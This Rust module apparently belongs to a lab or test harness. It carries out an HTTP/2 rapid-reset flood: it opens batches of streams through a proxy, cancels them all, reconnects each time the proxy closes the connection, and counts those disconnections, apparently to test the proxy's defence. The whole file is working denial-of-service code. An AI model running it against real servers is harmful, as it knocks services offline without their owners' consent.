//! Opens and resets streams at a steady rate, each after the server accepted it.

use std::time::Duration;

use anyhow::Context as _;
use h2::Reason;
use http::Request;

use super::{Client, PATIENCE, Target};
use crate::walkthrough::EXTERNAL_NAME;

/// The parameters of the streams.
#[derive(Clone, Debug)]
pub struct Resets {
    /// The path of each request.
    pub path: String,
    /// Number of streams open at the same time.
    pub batch: usize,
    /// Total number of streams.
    pub count: usize,
    /// Pause between the last stream of a batch and its resets: long enough for the proxy to
    /// forward the requests.
    pub pause: Duration,
}

/// The result of a run.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Done {
    /// Number of streams that were reset.
    pub reset: usize,
    /// Number of times the proxy closed the attacker's connection.
    pub sent_away: usize,
}

/// Opens and resets the streams, on a new connection each time the proxy closes one.
///
/// # Errors
/// Returns an error when the proxy accepts no connection.
pub async fn resets(target: &Target, resets: &Resets) -> anyhow::Result<Done> {
    let mut done = Done::default();
    while done.reset < resets.count {
        let mut client = Client::open(target, Some(&target.attacker)).await?;
        while done.reset < resets.count {
            let batch = tokio::time::timeout(PATIENCE, batch(&mut client, resets));
            match batch.await.context("no stream can be opened")? {
                Ok(count) => done.reset += count,
                Err(_ended) => {
                    done.sent_away += 1;
                    break;
                }
            }
        }
    }
    Ok(done)
}

async fn batch(client: &mut Client, resets: &Resets) -> anyhow::Result<usize> {
    let mut streams = Vec::with_capacity(resets.batch);
    for _ in 0..resets.batch {
        let request = Request::get(format!("https://{EXTERNAL_NAME}{}", resets.path)).body(())?;
        // The handle must be stored: dropping it resets the stream at once.
        streams.push(client.begin(request, true).await?);
    }
    tokio::time::sleep(resets.pause).await;
    for (_, stream) in &mut streams {
        stream.send_reset(Reason::CANCEL);
    }
    Ok(streams.len())
}
